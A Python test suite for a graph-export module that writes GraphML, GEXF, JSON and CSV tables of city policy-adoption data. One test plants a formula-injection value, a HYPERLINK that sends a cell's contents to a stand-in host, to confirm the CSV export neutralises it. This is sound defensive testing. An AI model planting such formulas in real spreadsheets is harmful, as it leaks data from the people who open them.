"""graph.export: GraphML, GEXF and node-link JSON read back by networkx and igraph; CSV tables read back by the
loader; atomic writes."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph import export as ex
from graph.dataset import load_dataset
from graph.errors import InputError, RequestError
from graph.model import Model
from graph.schema import ENTITY_COLUMNS, RELATION_COLUMNS


def _edges_by_relation(g):
    """{(u, v, relation): attributes without the file's edge id} of a (multi)graph read back."""
    items = g.edges(keys=True, data=True) if g.is_multigraph() else ((u, v, None, d) for u, v, d in g.edges(data=True))
    return {(u, v, d["relation"]): {k: val for k, val in d.items() if k != "id"} for u, v, _, d in items}


def _expected_edges(model):
    return {(u, v, k): dict(d) for u, v, k, d in ex.export_graph(model).edges(keys=True, data=True)}


# ---------------------------------------------------------------------------------------------------------------
# the exported graph


def test_export_graph_keeps_every_attribute(mini_model):
    g = ex.export_graph(mini_model)
    assert set(g.nodes) == set(mini_model.graph.nodes)
    jia = g.nodes["city:jia"]
    assert (jia["type"], jia["name"], jia["name_en"], jia["label"]) == ("city", "甲山市", "Jia", "甲山市")
    assert (jia["lat"], jia["lon"], jia["aliases"]) == (30.4, 112.9, "甲城|Jiashi")
    assert "lat" not in g.nodes["initiative:volunteering"]
    edge = g.edges["practice:jia-report", "initiative:cadres-to-communities", "instance_of"]
    assert edge == {"relation": "instance_of", "evidence": "到居住地社区报到", "document": "source:mini-article"}


def test_export_graph_makes_values_scalar(mini_model):
    mini_model.graph.nodes["city:jia"]["aliases"] = ("甲城", "Jiashi")
    mini_model.graph.nodes["city:jia"]["description"] = None
    mini_model.graph.nodes["city:jia"]["tags"] = {"b", "a"}
    mini_model.graph.nodes["city:jia"]["extra"] = object()
    g = ex.export_graph(mini_model)
    node = g.nodes["city:jia"]
    assert node["aliases"] == "甲城|Jiashi" and node["tags"] == "a|b" and "description" not in node
    assert isinstance(node["extra"], str)


def test_edge_ids_are_unique_in_graphml(mini_model, tmp_path):
    path = ex.export(mini_model, "graphml", tmp_path / "g.graphml")[0]
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    ids = [e.get("id") for e in ET.parse(path).getroot().iter(f"{{{ns['g']}}}edge")]
    assert len(ids) == mini_model.graph.number_of_edges() == len(set(ids))
    assert "city:jia reports practice:jia-down" in ids


def test_graphml_round_trip_networkx(mini_model, tmp_path):
    path = ex.export(mini_model, "graphml", tmp_path / "g.graphml")[0]
    back = nx.read_graphml(path, force_multigraph=True)
    expected = ex.export_graph(mini_model)
    assert dict(back.nodes(data=True)) == dict(expected.nodes(data=True))
    assert _edges_by_relation(back) == _expected_edges(mini_model)


def test_graphml_round_trip_igraph(mini_model, tmp_path):
    ig = pytest.importorskip("igraph")
    path = ex.export(mini_model, "graphml", tmp_path / "g.graphml")[0]
    g = ig.Graph.Read_GraphML(str(path))
    expected = ex.export_graph(mini_model)
    assert g.is_directed()
    assert sorted(g.vs["id"]) == sorted(expected.nodes)
    for v in g.vs:
        want = expected.nodes[v["id"]]
        for key in ("type", "name", "name_en", "aliases", "description", "level", "label"):
            assert v[key] == want[key], (v["id"], key)
        if "lat" in want:
            assert (v["lat"], v["lon"]) == pytest.approx((want["lat"], want["lon"]))
        else:
            assert math.isnan(v["lat"]) and math.isnan(v["lon"])
    got = {
        (g.vs[e.source]["id"], g.vs[e.target]["id"], e["relation"]): {
            "relation": e["relation"],
            "evidence": e["evidence"],
            "document": e["document"],
        }
        for e in g.es
    }
    assert got == _expected_edges(mini_model)


def test_gexf_round_trip_networkx(mini_model, tmp_path):
    path = ex.export(mini_model, "gexf", tmp_path / "g.gexf")[0]
    back = nx.read_gexf(path)
    expected = ex.export_graph(mini_model)
    assert dict(back.nodes(data=True)) == dict(expected.nodes(data=True))
    assert _edges_by_relation(back) == _expected_edges(mini_model)
    ids = {d["id"] for _, _, d in back.edges(data=True)}
    assert "city:jia reports practice:jia-down" in ids


# hostile text: markup characters, quotes, line ends, control characters XML cannot hold, lone surrogates, CJK
_hostile_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("&<>\"'\r\n\t \x00\x01\x0b\x1f\x7f\x85\u2028\ufffe\ufeff\ud800\udfff甲城市;#x")),
        st.characters(exclude_categories=()),
    ),
    max_size=10,
)
_attr_names = st.one_of(
    st.sampled_from(["type", "name", "label", "lat", "key", "networkx_key", "id", "weight", "start", "pid"]),
    _hostile_text,
)
_attr_values = st.one_of(_hostile_text, st.integers(), st.floats(), st.booleans())
_attrs = st.dictionaries(_attr_names, _attr_values, max_size=4)


@st.composite
def _export_graphs(draw):
    """Small multigraphs with the value types an exported graph holds (str, int, float, bool), hostile text."""
    g = nx.MultiDiGraph()
    for node in draw(st.lists(_hostile_text, max_size=6, unique=True)):
        g.add_node(node)
        g.nodes[node].update(draw(_attrs))
    nodes = list(g)
    if nodes:
        for _ in range(draw(st.integers(0, 8))):
            u, v = draw(st.sampled_from(nodes)), draw(st.sampled_from(nodes))
            key = g.add_edge(u, v, key=draw(_hostile_text))
            g.edges[u, v, key].update(draw(_attrs))
    return g


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(graph=_export_graphs())
def test_graphml_and_gexf_text_is_networkx_text(graph):
    assert ex._graphml_bytes(graph) == ex._graphml_bytes_networkx(graph)
    assert ex._gexf_bytes(graph) == ex._gexf_bytes_networkx(graph)


def test_node_link_json_reads_back_identical(mini_model, tmp_path):
    path = ex.export(mini_model, "json", tmp_path / "g.json")[0]
    back = ex.read_node_link(path)
    assert isinstance(back, nx.MultiDiGraph)
    assert nx.utils.graphs_equal(back, mini_model.graph)
    assert list(back.edges(keys=True, data=True)) == list(mini_model.graph.edges(keys=True, data=True))
    data = json.loads(path.read_text(encoding="utf-8"))
    plain = nx.node_link_graph(data, edges="edges")  # what a user of networkx alone writes
    assert nx.utils.graphs_equal(plain, mini_model.graph)


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json"])
def test_same_data_same_bytes(mini_model, tmp_path, fmt):
    a = ex.export(mini_model, fmt, tmp_path / f"a.{fmt}")[0].read_bytes()
    b = ex.export(mini_model, fmt, tmp_path / f"b.{fmt}")[0].read_bytes()
    assert a == b
    assert "甲山市" in a.decode("utf-8")


def test_default_paths(mini_model, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert ex.export(mini_model, "gexf") == [ex.default_path("gexf")]
    assert (tmp_path / "practice-graph.gexf").is_file()
    written = ex.export(mini_model, "csv")
    assert written[0].parent.name == "practice-graph-csv"


@pytest.mark.parametrize(
    "fmt, target, error, message",
    [
        (
            "xml",
            "g.xml",
            RequestError,
            "unknown export format 'xml' (expected one of graphml, gexf, json, csv, parquet, cascades, adoptions, "
            "dyad-years, dyad-years-parquet)",
        ),
        (
            "json",
            "missing/g.json",
            InputError,
            "cannot write {tmp}/missing/g.json: folder {tmp}/missing does not exist",
        ),
        ("json", ".", InputError, "cannot write {tmp}: it is a folder"),
        ("csv", "file.txt", InputError, "cannot write the CSV tables to {tmp}/file.txt: it is a file, not a folder"),
        ("csv", "missing/tables", InputError, "cannot write {tmp}/missing/tables: folder {tmp}/missing does not exist"),
    ],
)
def test_export_errors(mini_model, tmp_path, fmt, target, error, message):
    (tmp_path / "file.txt").write_text("keep", encoding="utf-8")
    path = tmp_path / target if target != "." else tmp_path
    with pytest.raises(error) as info:
        ex.export(mini_model, fmt, path)
    assert str(info.value) == message.format(tmp=tmp_path)
    assert (tmp_path / "file.txt").read_text(encoding="utf-8") == "keep"


def test_failed_write_leaves_the_old_file_and_no_temporary(mini_model, tmp_path, monkeypatch):
    target = tmp_path / "g.json"
    target.write_text("old", encoding="utf-8")

    def broken(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(InputError, match="No space left on device"):
        ex.export(mini_model, "json", target)
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.json"]


# ---------------------------------------------------------------------------------------------------------------
# CSV tables


def _read_csv(path):
    assert Path(path).read_bytes().startswith(b"\xef\xbb\xbf"), "tables carry a BOM so that Excel reads UTF-8"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_tables(mini_model, tmp_path):
    folder = tmp_path / "tables"
    written = ex.export(mini_model, "csv", folder)
    assert [p.name for p in written[:5]] == list(ex.CSV_FILES)
    assert (folder / "sources" / "mini-article.txt").is_file()
    matrix = {r["city"]: r for r in _read_csv(folder / "adoption_matrix.csv")}
    assert matrix["city:jia"]["city_name"] == "甲山市" and matrix["city:jia"]["province"] == "province:hubei"
    assert matrix["city:jia"]["initiative:red-property"] == "1"
    assert matrix["city:jia"]["initiative:volunteering"] == "0"
    assert sum(int(r[x]) for r in matrix.values() for x in mini_model.incidence.initiatives) == 8
    long = _read_csv(folder / "adoptions.csv")
    assert len(long) == 8
    row = next(r for r in long if r["city"] == "city:jia" and r["initiative"] == "initiative:cadres-to-communities")
    assert (row["practice"], row["evidence"], row["document"]) == (
        "practice:jia-report",
        "到居住地社区报到",
        "source:mini-article",
    )
    pairs = _read_csv(folder / "dyads.csv")
    assert len(pairs) == 6
    pair = next(r for r in pairs if {r["city_a_id"], r["city_b_id"]} == {"city:jia", "city:yi"})
    assert pair["shared"] == "1" and pair["same_province"] == "true" and float(pair["distance_km"]) > 0


def test_csv_folder_is_a_dataset(mini_model, tmp_path):
    folder = tmp_path / "tables"
    ex.export(mini_model, "csv", folder)
    again = load_dataset(folder)
    assert [e.as_row() for e in again.entities.values()] == [e.as_row() for e in mini_model.dataset.entities.values()]
    assert [r.as_row() for r in again.relations] == [r.as_row() for r in mini_model.dataset.relations]


def test_csv_export_replaces_an_unchanged_earlier_export(mini_model, tmp_path):
    folder = tmp_path / "tables"
    ex.export(mini_model, "csv", folder)
    assert (folder / ".practice-graph-manifest.json").is_file()
    ex.export(mini_model, "csv", folder)
    assert (folder / "dyads.csv").read_text(encoding="utf-8-sig").startswith("city_a,")
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]  # no temporary or old folder left


@pytest.mark.parametrize(
    "change, why",
    [
        (lambda f: (f / "dyads.csv").write_text("stale", encoding="utf-8"), "dyads.csv was changed since"),
        (
            lambda f: open(f / "entities.csv", "a", encoding="utf-8").write("city:mine,city,我的市,Mine\n"),
            "entities.csv was changed since",
        ),
        (lambda f: (f / "sources" / "notes.txt").write_text("mine", encoding="utf-8"), "sources/notes.txt was added"),
        (lambda f: (f / "notes.docx").write_text("mine", encoding="utf-8"), "notes.docx was added"),
        (lambda f: (f / ".practice-graph-manifest.json").unlink(), "it holds files practice-graph did not write"),
        (lambda f: (f / "adoptions.csv").unlink(), "adoptions.csv was removed"),
    ],
    ids=["edited-table", "row-added-by-hand", "note-in-sources", "note-beside", "no-manifest", "file-removed"],
)
def test_csv_export_refuses_a_folder_it_cannot_prove_it_wrote(mini_model, tmp_path, change, why):
    folder = tmp_path / "tables"
    ex.export(mini_model, "csv", folder)
    change(folder)
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    with pytest.raises(InputError) as info:
        ex.export(mini_model, "csv", folder)
    assert str(info.value).startswith(f"cannot replace {folder}: {why}")
    assert str(info.value).endswith("the CSV export replaces its folder whole: name a new or empty folder")
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]


def test_csv_export_refuses_a_hand_made_dataset_folder(mini_model, mini_dir, tmp_path):
    folder = tmp_path / "mine"
    shutil.copytree(mini_dir, folder)
    with pytest.raises(InputError, match="it holds files practice-graph did not write"):
        ex.export(mini_model, "csv", folder)
    assert (folder / "entities.csv").read_bytes() == (mini_dir / "entities.csv").read_bytes()


def test_csv_cells():
    assert ex._csv_text(["a", "b", "c", "d"], [{"a": None, "b": [1, "x"], "c": 0.1, "d": float("nan")}]) == (
        "a,b,c,d\n,1; x,0.1,\n"
    )


# ---------------------------------------------------------------------------------------------------------------
# property: load -> export CSV tables -> load gives the same dataset and the same adoption matrix

_TEXT = (
    st.text(
        alphabet=st.sampled_from(list("潜江随州市党员下沉社区ABCxyz 0129,\"'<>&;:/-")),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@st.composite
def datasets(draw):
    n_cities = draw(st.integers(1, 5))
    n_initiatives = draw(st.integers(1, 4))
    adopt = [
        draw(st.lists(st.integers(0, n_initiatives - 1), unique=True, max_size=n_initiatives)) for _ in range(n_cities)
    ]
    names = draw(st.lists(_TEXT, min_size=n_cities + n_initiatives, max_size=n_cities + n_initiatives))
    aliases = draw(st.lists(_TEXT.filter(lambda s: "|" not in s), max_size=2))
    coords = draw(st.lists(st.tuples(st.integers(-9000, 9000), st.integers(-18000, 18000)), min_size=n_cities))
    return adopt, names, aliases, coords


def _write_generated(root, adopt, names, aliases, coords):
    (root / "sources").mkdir(parents=True)
    entities = io.StringIO()
    relations = io.StringIO()
    ew, rw = csv.writer(entities), csv.writer(relations)
    ew.writerow(["id", "type", "name", "name_en", "aliases", "description", "level", "lat", "lon"])
    rw.writerow(["source", "relation", "target", "evidence", "document"])
    ew.writerow(["source:doc", "source", "文章", "", "", "", "", "", ""])
    quotes = []
    n_initiatives = len(names) - len(adopt)
    for j in range(n_initiatives):
        ew.writerow([f"initiative:i{j}", "initiative", names[len(adopt) + j], f"initiative {j}", "", "", "", "", ""])
    for i, chosen in enumerate(adopt):
        lat, lon = coords[i][0] / 100, coords[i][1] / 100
        ew.writerow([f"city:c{i}", "city", names[i], f"City {i}", "|".join(aliases), names[i], "地级市", lat, lon])
        ew.writerow([f"practice:p{i}", "practice", f"{names[i]}做法", "", "", "", "", "", ""])
        quote = f"{names[i]}：做法{i}"
        quotes.append(quote)
        rw.writerow([f"city:c{i}", "reports", f"practice:p{i}", quote, "source:doc"])
        for j in chosen:
            quote = f"{names[i]}开展{names[len(adopt) + j]}{j}"
            quotes.append(quote)
            rw.writerow([f"practice:p{i}", "instance_of", f"initiative:i{j}", quote, "source:doc"])
    (root / "entities.csv").write_text(entities.getvalue(), encoding="utf-8")
    (root / "relations.csv").write_text(relations.getvalue(), encoding="utf-8")
    (root / "sources" / "doc.txt").write_text("\n".join(quotes), encoding="utf-8")


@pytest.mark.slow
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=datasets())
def test_csv_round_trip_property(tmp_path_factory, data):
    root = tmp_path_factory.mktemp("gen")
    _write_generated(root / "in", *data)
    model = Model(load_dataset(root / "in"))
    ex.export(model, "csv", root / "out")
    again = Model(load_dataset(root / "out"))
    assert [e.as_row() for e in again.dataset.entities.values()] == [
        e.as_row() for e in model.dataset.entities.values()
    ]
    assert [r.as_row() for r in again.dataset.relations] == [r.as_row() for r in model.dataset.relations]
    assert again.incidence.cities == model.incidence.cities
    assert (again.incidence.matrix != model.incidence.matrix).nnz == 0
    matrix = _read_csv(root / "out" / "adoption_matrix.csv")
    dense = model.incidence.matrix.toarray()
    for i, row in enumerate(matrix):
        assert row["city"] == model.incidence.cities[i]
        assert [int(row[x]) for x in model.incidence.initiatives] == dense[i].tolist()
    assert len(_read_csv(root / "out" / "adoptions.csv")) == sum(len(v) for v in model.incidence.evidence.values())


def test_csv_tables_for_spreadsheets_neutralise_formulas_and_the_dataset_stays_exact(mini_copy, tmp_path):
    formula = '=HYPERLINK("http://x.example/?"&B2,"潜江")'
    path = mini_copy / "entities.csv"
    text = path.read_text(encoding="utf-8").replace("甲山市", formula.replace('"', '""').join('""'), 1)
    text = text.replace("红色物业", "@SUM(1+1)", 1)
    path.write_text(text, encoding="utf-8")
    model = Model(load_dataset(mini_copy))
    folder = tmp_path / "tables"
    ex.export(model, "csv", folder)
    matrix = {r["city"]: r for r in _read_csv(folder / "adoption_matrix.csv")}
    assert matrix["city:jia"]["city_name"] == "'" + formula
    long = _read_csv(folder / "adoptions.csv")
    assert {r["city_name"] for r in long if r["city"] == "city:jia"} == {"'" + formula}
    assert "'@SUM(1+1)" in {r["initiative_name"] for r in long}
    pairs = _read_csv(folder / "dyads.csv")
    assert not [v for r in pairs for v in r.values() if v[:1] in ("=", "+", "@")]
    assert any(v.startswith("'=") for r in pairs for v in r.values())
    # the dataset files are exact: the folder reads back as the same dataset
    again = load_dataset(folder)
    assert again.entities["city:jia"].name == formula


def _reference_csv(columns, rows, spreadsheet=False) -> str:
    """The CSV tables as written row by row, each cell through ``_csv_cell`` (the bytes the export must keep)."""
    from graph.files import spreadsheet_safe

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([spreadsheet_safe(c) for c in columns] if spreadsheet else columns)
    for row in rows:
        cells = [row.get(c) for c in columns]
        if spreadsheet:
            writer.writerow(
                [
                    spreadsheet_safe(ex._csv_cell(v)) if isinstance(v, str | list | tuple) else ex._csv_cell(v)
                    for v in cells
                ]
            )
        else:
            writer.writerow([ex._csv_cell(v) for v in cells])
    return buffer.getvalue()


@pytest.mark.parametrize("entries", [2**22, 7])
def test_csv_tables_written_column_by_column_are_the_row_by_row_bytes(mini_copy, tmp_path, entries, monkeypatch):
    path = mini_copy / "entities.csv"
    text = path.read_text(encoding="utf-8").replace("甲山市", '"=甲,山""市\n"', 1)
    text = text.replace("红色物业", '"-红色,物业"', 1)
    path.write_text(text, encoding="utf-8")
    model = Model(load_dataset(mini_copy))
    write = ex._write_adoption_matrix
    monkeypatch.setattr(ex, "_write_adoption_matrix", lambda m, fh: write(m, fh, entries=entries))  # several blocks
    folder = tmp_path / "tables"
    ex.export(model, "csv", folder)
    matrix, long = ex.adoption_matrix(model), ex.adoption_table(model)
    expected = {
        "entities.csv": _reference_csv(ENTITY_COLUMNS, [e.as_row() for e in model.dataset.entities.values()]),
        "relations.csv": _reference_csv(RELATION_COLUMNS, [r.as_row() for r in model.dataset.relations]),
        "adoption_matrix.csv": _reference_csv(matrix.columns, matrix.rows, spreadsheet=True),
        "adoptions.csv": _reference_csv(long.columns, long.rows, spreadsheet=True),
    }
    for name, text in expected.items():
        assert (folder / name).read_text(encoding="utf-8-sig") == text, name
    assert "'=甲" in expected["adoption_matrix.csv"] and "'-红色" in expected["adoptions.csv"]
